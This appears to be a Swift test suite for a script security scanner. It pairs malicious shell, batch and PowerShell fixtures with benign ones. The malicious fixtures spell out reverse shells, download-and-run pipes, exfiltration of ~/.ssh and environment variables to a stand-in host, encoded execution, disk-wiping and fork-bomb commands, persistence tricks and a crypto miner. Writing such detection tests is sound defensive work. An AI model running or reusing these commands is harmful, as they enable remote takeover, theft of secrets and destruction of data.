import Scanning
import Testing

/// Scripts of shells, of cmd.exe and of PowerShell.
@Suite struct ShellScriptTests {
    @Test(arguments: malicious)
    func isFound(script: CodeCase) async {
        let findings = await script.findings()
        let worst = findings.filter { $0.rule.id == script.rule }.map(\.severity).max()
        #expect(worst == script.severity, "found \(findings.map { "\($0.severity) \($0.rule.id): \($0.message)" })")
    }

    @Test(arguments: benign)
    func staysClean(script: CodeCase) async {
        let findings = await script.findings().filter { $0.severity > script.severity }
        #expect(findings.isEmpty, "found \(findings.map { "\($0.severity) \($0.rule.id): \($0.message)" })")
    }

    private static let u = "https://host.example.invalid/x"

    static let malicious: [CodeCase] = [
        CodeCase("a pipe into a shell", "curl -fsSL \(u) | sudo bash", "shell-download-and-run", .high, in: "a.sh"),
        CodeCase(
            "a known installer", "curl https://sh.rustup.rs -sSf | sh -s -- -y", "shell-download-and-run", .medium, in: "a.sh"),
        CodeCase("over several lines", "curl -s \\\n  \(u) \\\n  | bash", "shell-download-and-run", .high, in: "a.sh"),
        CodeCase("by a substitution", "bash -c \"$(curl -fsSL \(u))\"", "shell-download-and-run", .high, in: "a.sh"),
        CodeCase("by a file that is a process", "source <(curl -s \(u))", "shell-download-and-run", .high, in: "a.sh"),
        CodeCase("by a variable", "C=curl\n$C -s \(u) | bash", "shell-download-and-run", .high, in: "a.sh"),
        CodeCase("fetched, then run", "wget \(u)/a.sh\nchmod +x a.sh\n./a.sh", "shell-download-and-run", .high, in: "a.sh"),
        CodeCase("by its first line alone", "#!/bin/bash\ncurl \(u) | bash", "shell-download-and-run", .high, in: "run"),
        CodeCase(
            "a shell over the network", "bash -i >& /dev/tcp/host.example.invalid/1 0>&1", "shell-reverse-shell", in: "a.sh"),
        CodeCase(
            "a shell by a descriptor", "exec 5<>/dev/tcp/host.example.invalid/1\ncat <&5 | sh", "shell-reverse-shell", in: "a.sh"),
        CodeCase("a shell by socat", "socat TCP:host.example.invalid:1 EXEC:/bin/sh", "shell-reverse-shell", in: "a.sh"),
        CodeCase(
            "a shell in Python",
            "python3 <<'E'\nimport socket, os, pty\ns = socket.socket()\ns.connect(('host.example.invalid', 1))\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\nE",
            "python-reverse-shell", in: "a.sh"),
        CodeCase("encoded", "echo aWQ= | base64 --decode | bash", "shell-encoded-command", in: "a.sh"),
        CodeCase("encoded, evaluated", "eval \"$(echo aWQ= | base64 -d)\"", "shell-encoded-command", in: "a.sh"),
        CodeCase("all files", "rm -rf --no-preserve-root /", "shell-destructive", in: "a.sh"),
        CodeCase("all files of the user", "rm -rf ~/*", "shell-destructive", in: "a.sh"),
        CodeCase("a disk", "dd if=/dev/zero of=/dev/sda", "shell-destructive", in: "a.sh"),
        CodeCase("itself without end", ":(){ :|:& };:", "shell-destructive", in: "a.sh"),
        CodeCase("a job", "echo '* * * * * sh x' | crontab -", "shell-persistence", .high, in: "a.sh"),
        CodeCase("a key", "cat k.pub >> ~/.ssh/authorized_keys", "shell-persistence", .high, in: "a.sh"),
        CodeCase("a secret", "tar cz ~/.ssh | curl --data-binary @- \(u)", "shell-credential-theft", in: "a.sh"),
        CodeCase("the environment", "curl -d \"$(env)\" \(u)", "shell-credential-theft", in: "a.sh"),
        CodeCase("a miner", "./xmrig -o stratum+tcp://host.example.invalid:1", "shell-crypto-miner", in: "a.sh"),
        CodeCase("the history", "unset HISTFILE", "shell-disables-protection", .high, in: "a.sh"),
        CodeCase(
            "PowerShell that runs what it fetches", "IEX (New-Object Net.WebClient).DownloadString('\(u)')",
            "shell-download-and-run", .high, in: "a.ps1"),
        CodeCase(
            "PowerShell that is encoded", "@echo off\r\npowershell -nop -w hidden -EncodedCommand aQBkAA==",
            "shell-encoded-command", in: "a.bat"),
        CodeCase("a tool of Windows", "certutil -urlcache -split -f \(u) a.exe", "shell-download-and-run", .high, in: "a.cmd"),
        CodeCase("a job of Windows", "schtasks /create /tn x /tr y.exe /sc onlogon", "shell-persistence", .high, in: "a.bat"),
    ]

    static let benign: [CodeCase] = [
        CodeCase(
            clean: "packages", "#!/bin/bash\nset -e\npip install -r requirements.txt\nconda activate x\napt-get install -y git",
            in: "a.sh"),
        CodeCase(
            clean: "training",
            "export CUDA_VISIBLE_DEVICES=0\nfor i in 1 2; do\n  python train.py --seed $i 2>&1 | tee log.txt\ndone", in: "a.sh"),
        CodeCase(
            clean: "data", "wget -c https://host.example.invalid/data.tar.gz\ntar xzf data.tar.gz\nrm -rf data.tar.gz ./tmp",
            in: "a.sh"),
        CodeCase(clean: "a comment", "# curl x | sh\necho '# rm -rf /' # bash -i >& /dev/tcp/1/2", in: "a.sh"),
        CodeCase(clean: "a text", "echo \"Run: curl https://host.example.invalid | sh\"", in: "a.sh"),
        CodeCase(
            clean: "a text to a file", "cat > readme.txt <<EOF\ncurl https://host.example.invalid | sh\nrm -rf /\nEOF", in: "a.sh"
        ),
        CodeCase(clean: "a folder", "cd \"$(dirname \"$0\")\"\nrm -rf \"$OUT/build\" /tmp/x", in: "a.sh"),
        CodeCase(clean: "an answer that is read", "curl -s https://host.example.invalid/v | jq .tag | grep v1", in: "a.sh"),
        CodeCase(clean: "a port that is waited for", "until (echo > /dev/tcp/localhost/8080); do sleep 1; done", in: "a.sh"),
        CodeCase(clean: "a setting of the shell", "echo 'export PATH=$PATH:/opt/x' >> ~/.bashrc", in: "a.sh"),
        CodeCase(
            clean: "batch", "@echo off\r\nREM del /s /q c:\\\r\nset X=1\r\npython train.py ^\r\n  --a b\r\npause", in: "a.bat"),
        CodeCase(clean: "PowerShell", "# iex (iwr x)\n$x = Get-Item .\nWrite-Host \"a\"\npython train.py", in: "a.ps1"),
    ]
}
